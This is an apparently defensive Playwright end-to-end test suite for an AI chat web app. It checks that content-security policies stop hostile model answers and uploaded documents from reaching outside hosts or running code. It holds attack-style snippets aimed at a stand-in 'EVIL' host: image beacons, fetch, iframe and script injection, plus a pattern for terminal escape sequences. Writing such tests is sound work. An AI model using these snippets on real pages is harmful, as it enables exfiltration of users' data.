import assert from 'node:assert/strict';
import { randomUUID } from 'node:crypto';
import { after, before, describe, it } from 'node:test';
import type { BrowserContext, Page } from 'playwright-core';
import { createOllamaSimulator, type OllamaSimulator } from '../../docker/ollama-simulator/src/server.ts';
import type { PageFaults } from '../helpers/browser.ts';
import { tellInBrowser } from '../helpers/browser-story.ts';
import { EVIL, HOSTILE_ANSWERS } from '../helpers/hostile-answers.ts';
import { JourneyClient } from '../helpers/journey-client.ts';
import { startStandalone } from '../helpers/running-program.ts';

const PASSWORD = 'correct horse battery';

describe('the policies of the pages, on the running app', { timeout: 300_000 }, () => {
  let simulator: OllamaSimulator;
  const email = `${randomUUID()}@example.org`;
  const story = tellInBrowser({
    name: 'policy',
    async start() {
      simulator = createOllamaSimulator({ models: ['qwen3:0.6b'] });
      await simulator.start();
      return startStandalone({ OLLAMA_URL: simulator.url });
    },
    context: {
      viewport: { width: 1280, height: 800 },
      permissions: ['clipboard-read', 'clipboard-write'],
    },
  });
  const { picture } = story;
  let url: string;
  let context: BrowserContext;
  let page: Page;
  let faults: PageFaults;

  before(async () => {
    ({ url, context, page, faults } = story);
    const client = new JourneyClient(url);
    await client.signUp(email);
    await client.createWorkspace('Plant 7');
  });
  after(() => simulator?.stop());

  const answerWith = async (answer: string) => {
    const response = await fetch(`${simulator.url}/simulator/behaviour`, {
      method: 'POST',
      body: JSON.stringify({ answer }),
    });
    assert.equal(response.status, 200);
  };
  const ask = async (question: string) => {
    await page.getByRole('textbox', { name: 'Message' }).fill(question);
    await page.getByRole('button', { name: 'Send' }).click();
    await page.getByText(question).first().waitFor();
  };
  const breaksNothing = () => {
    assert.deepEqual(faults.violations, []);
    assert.deepEqual(faults.errors, []);
    assert.deepEqual(faults.foreignRequests, []);
  };

  it('breaks none on the way to a workspace', async () => {
    await page.goto(url);
    await page.getByRole('textbox', { name: 'Email' }).fill(email);
    await page.getByLabel('Password', { exact: true }).fill(PASSWORD);
    await picture('policy-sign-in');
    await page.getByRole('button', { name: 'Sign in', exact: true }).click();
    await page.getByText('Plant 7').first().waitFor();
    await picture('policy-workspaces');
    await page.getByText('Plant 7').first().click();
    await page.getByRole('navigation', { name: 'Workspace' }).waitFor();
    breaksNothing();
  });

  it('breaks none with members, dialogs and documents', async () => {
    const navigation = page.getByRole('navigation', { name: 'Workspace' });
    await navigation.getByText('Members').click();
    const own = page
      .getByRole('list', { name: 'Members' })
      .getByRole('listitem')
      .filter({ hasText: '(you)' });
    await own.getByRole('button', { name: 'Leave' }).click();
    await page.getByRole('dialog').getByRole('button', { name: 'Cancel' }).click();
    await page.getByRole('dialog').waitFor({ state: 'detached' });
    await navigation.getByText('Documents').click();
    await page.locator('input[type=file]').setInputFiles([
      {
        name: 'notes.md',
        mimeType: 'text/markdown',
        buffer: Buffer.from(
          `# Notes\n\nThe pump is inspected every 30 days. ![plan](https://${EVIL}/plan.png)\n\n<img src="https://${EVIL}/html.png">\n`,
        ),
      },
    ]);
    const documents = page.getByRole('list', { name: 'Documents' }).getByRole('listitem');
    await documents.filter({ hasText: 'notes.md' }).getByText('Ready').waitFor();
    await documents.getByText('notes.md').click();
    await page.getByText('The pump is inspected every 30 days.').waitFor();
    await picture('policy-document');
    breaksNothing();
  });

  it('breaks none with an answer that has everything in it', async () => {
    await page.getByRole('navigation', { name: 'Workspace' }).getByText('New conversation').click();
    await answerWith(
      'The area is $A = \\pi r^2$ [1].\n\n```ts\nconst area: number = Math.PI * r ** 2;\n```\n\n```mermaid\ngraph LR\n  A[Radius] --> B[Area]\n```\n\nSee [the docs](https://docs.example/area).\n',
    );
    await ask('How is the area reckoned?');
    await page.getByRole('img', { name: 'Diagram' }).waitFor();
    await page.locator('.katex').first().waitFor();
    await page.locator('.hljs-keyword').first().waitFor();
    await picture('policy-answer');
    await page.setViewportSize({ width: 360, height: 740 });
    await page.emulateMedia({ colorScheme: 'dark' });
    // Drawn again in the colours of the dark.
    await page.locator('img[alt=Diagram][data-scheme=dark]').waitFor();
    const overflow = await page.evaluate<number>(
      'document.documentElement.scrollWidth - document.documentElement.clientWidth',
    );
    assert.equal(overflow, 0);
    await picture('policy-answer-phone-dark');
    await page.setViewportSize({ width: 1280, height: 800 });
    await picture('policy-answer-dark');
    await page.emulateMedia({ colorScheme: 'light' });
    breaksNothing();
  });

  it('breaks none in the playground, and its editor works', async () => {
    await page.goto(`${url}/playground`);
    await page.locator('.graphiql-query-editor').getByText('WhoAmI').waitFor();
    await page.getByRole('button', { name: /Execute query/ }).click();
    await page
      .locator('.graphiql-response')
      .getByText('Plant 7')
      .or(page.locator('.graphiql-response').getByText(email))
      .first()
      .waitFor();
    await picture('policy-playground');
    breaksNothing();
  });

  it('A60 A61 A62 lets nothing out and nothing run of an answer that tries everything', async () => {
    await page.goBack();
    await page.getByRole('navigation', { name: 'Workspace' }).waitFor();
    await answerWith(`${Object.values(HOSTILE_ANSWERS).join('\n\n')}\n\nThat was all.`);
    await ask('What does the document want?');
    await page.getByText('That was all.').waitFor();
    await page.getByText('Hidden characters were removed.').first().waitFor();
    await page.getByRole('img', { name: 'Diagram' }).nth(1).waitFor();
    await picture('policy-hostile');
    await page.reload();
    await page.getByText('That was all.').waitFor();
    assert.equal(await page.evaluate('"hacked" in window'), false);
    const outward =
      '[aria-label=Messages] a[href*=evil], [aria-label=Messages] img:not([src^="data:image/svg+xml"])';
    const found = `Array.from(document.querySelectorAll('${outward}'), (element) => element.outerHTML)`;
    assert.deepEqual(await page.evaluate(found), []);
    assert.deepEqual(faults.errors, []);
    assert.deepEqual(faults.foreignRequests, []);
  });

  it('A68 copies what is seen: nothing that commands a terminal', async () => {
    await page.getByRole('button', { name: 'Copy answer' }).last().click();
    await page.getByRole('button', { name: 'Copied' }).waitFor();
    const copied = await page.evaluate<string>('navigator.clipboard.readText()');
    assert.match(copied, /That was all\.$/);
    // biome-ignore lint/suspicious/noControlCharactersInRegex: these are what must not be there
    assert.doesNotMatch(copied, /[\x00-\x08\x0b-\x1f\x7f-\x9f\u200b\u202e]|52;c;cm0/);
  });

  it('keeps the page from what an attacker would do next', async () => {
    let reached = 0;
    // Whatever gets this far would have left the machine; it is answered, so that a page without a policy would notice.
    await context.route(`https://${EVIL}/**`, (route) => {
      reached += 1;
      return route.fulfill({
        contentType: 'image/svg+xml',
        headers: { 'access-control-allow-origin': '*' },
        body: '<svg xmlns="http://www.w3.org/2000/svg" width="1" height="1"/>',
      });
    });
    const attempts = {
      fetch: `fetch('https://${EVIL}/').then(() => 'sent', () => 'kept')`,
      picture: `new Promise((done) => { const image = new Image(); image.onload = () => done('sent'); image.onerror = () => done('kept'); image.src = 'https://${EVIL}/i.svg'; })`,
      frame: `new Promise((done) => { document.addEventListener('securitypolicyviolation', () => done('kept'), { once: true }); const frame = document.createElement('iframe'); frame.src = 'https://${EVIL}/'; document.body.append(frame); })`,
      markup: `(() => { try { document.createElement('div').innerHTML = '<b>x</b>'; return 'sent'; } catch { return 'kept'; } })()`,
      // Later: what the debugger itself evaluates may evaluate more.
      code: `new Promise((done) => setTimeout(() => { try { done(new Function('return "sent"')()); } catch { done('kept'); } }))`,
      script: `new Promise((done) => { const script = document.createElement('script'); script.onload = () => done('sent'); script.onerror = () => done('kept'); try { script.src = 'https://${EVIL}/x.js'; document.body.append(script); } catch { done('kept'); } })`,
    };
    for (const [name, attempt] of Object.entries(attempts)) {
      assert.equal(await page.evaluate<string>(attempt), 'kept', name);
    }
    assert.equal(reached, 0);
  });
});
